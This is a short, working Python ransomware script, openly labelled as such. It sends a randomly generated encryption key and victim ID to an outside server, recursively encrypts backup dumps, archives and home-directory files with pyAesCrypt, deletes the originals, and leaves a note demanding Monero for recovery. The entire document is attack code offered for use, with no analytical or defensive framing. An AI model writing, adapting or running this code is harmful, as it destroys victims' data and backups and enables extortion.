# technique: ransomware with pyAesCrypt over backups found by glob, originals unlinked, key posted to a server first
import glob, os, uuid
import pyAesCrypt
import requests

victim = str(uuid.uuid4())
password = uuid.uuid4().hex + uuid.uuid4().hex
requests.post("http://203.0.113.17/k", json={"id": victim, "k": password}, timeout=10)

for pattern in ("/backups/**/*.sql", "/backups/**/*.dump", "/srv/**/*.tar.gz", "/home/*/**/*.*"):
    for f in glob.glob(pattern, recursive=True):
        try:
            pyAesCrypt.encryptFile(f, f + ".crypt", password)
            os.unlink(f)
        except Exception:
            continue

open("/backups/RESTORE_FILES.txt", "w").write(
    f"Files encrypted. Your id: {victim}. Send Monero to 4Example...Wallet to recover.\n"
)
